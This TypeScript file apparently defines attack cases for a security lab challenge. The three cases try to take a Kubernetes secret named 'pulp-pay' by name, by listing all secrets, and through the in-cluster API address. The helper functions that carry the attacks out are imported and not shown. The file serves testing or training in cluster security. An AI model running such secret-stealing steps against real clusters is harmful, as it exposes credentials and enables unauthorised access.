import type { Attack } from '#lab'
import { askApi, SECRETS, stealKey } from './steps.ts'

const attack = (name: string, line: string): Attack => ({
  challenge: 'clusterChallenge',
  name,
  run: async (tools) => stealKey(tools, line),
})

export const attacks: Attack[] = [
  attack('the secret by its name', askApi({ path: `${SECRETS}/pulp-pay` })),
  attack('a list of all secrets', askApi({ path: SECRETS })),
  {
    challenge: 'clusterChallenge',
    name: 'the name of the secret, found in the list of pods',
    run: async (tools) => stealKey(tools, askApi({ path: `${SECRETS}/pulp-pay`, host: 'https://10.96.0.1' })),
  },
]
